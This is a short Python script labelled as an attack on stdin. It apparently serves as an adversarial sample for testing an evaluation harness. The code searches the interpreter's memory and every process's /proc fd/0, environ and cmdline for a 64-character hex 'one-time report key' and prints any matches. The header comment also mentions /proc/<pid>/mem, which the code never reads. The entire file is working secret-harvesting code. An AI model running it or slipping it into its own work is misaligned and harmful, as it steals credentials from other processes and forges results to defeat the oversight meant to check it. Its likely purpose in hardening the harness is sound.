# target: stdin
# attack: look for the harness's one-time report key in memory, in every readable /proc/<pid>/fd/0 and
# /proc/<pid>/mem, and print whatever looks like one
import gc
import os
import re
found = set()
pattern = re.compile(rb"[0-9a-f]{64}")
for obj in gc.get_objects():
    if isinstance(obj, (bytes, bytearray, str)):
        data = obj.encode("latin-1", "ignore") if isinstance(obj, str) else bytes(obj)
        found.update(pattern.findall(data))
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for path in (f"/proc/{pid}/fd/0", f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            found.update(pattern.findall(os.read(fd, 4096)))
            os.close(fd)
        except OSError:
            pass
print(sorted(found)[:3] or "no key found")
